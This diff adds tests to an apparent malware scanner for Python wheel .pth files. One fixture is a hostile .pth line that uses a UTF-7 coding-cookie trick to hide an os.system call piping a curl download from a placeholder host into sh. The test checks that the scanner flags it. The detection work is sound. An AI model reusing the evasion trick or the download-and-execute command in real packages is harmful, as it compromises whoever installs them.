@@ -1628,3 +1628,24 @@ def test_an_honest_pth_with_a_form_feed_stays_quiet():
     result = analyze(_wheel_with_pth(honest))
     assert result.verdict not in FLAGGED
     assert not found(result, "analysis.parse-failed")
+
+
+def test_a_pth_file_is_read_as_site_reads_it_never_through_a_coding_cookie():
+    # site ignores the cookie: it runs x='+ACc-'; os.system(...); as UTF-7 the line would
+    # read as an unterminated string and hide the command
+    hostile = (
+        "# -*- coding: utf-7 -*-\n"
+        "import os;x='+ACc-';os.system('curl -s https://cdn.example.net/x.sh | sh')#'\n"
+    )
+    result = analyze(_wheel_with_pth(hostile))
+    [hit] = found(result, "intent.shell-download-execute")
+    assert "curl -s https://cdn.example.net/x.sh | sh" in hit.evidence
+    assert not found(result, "analysis.parse-failed")
+    assert result.verdict == "malicious"
+
+
+def test_an_honest_pth_with_a_bom_and_a_cookie_like_comment_stays_quiet():
+    honest = "\ufeff# -*- coding: latin-1 -*-\n/opt/demo/lib\nimport _demo_paths\n"
+    result = analyze(_wheel_with_pth(honest))
+    assert result.verdict not in FLAGGED
+    assert not found(result, "analysis.encoding")
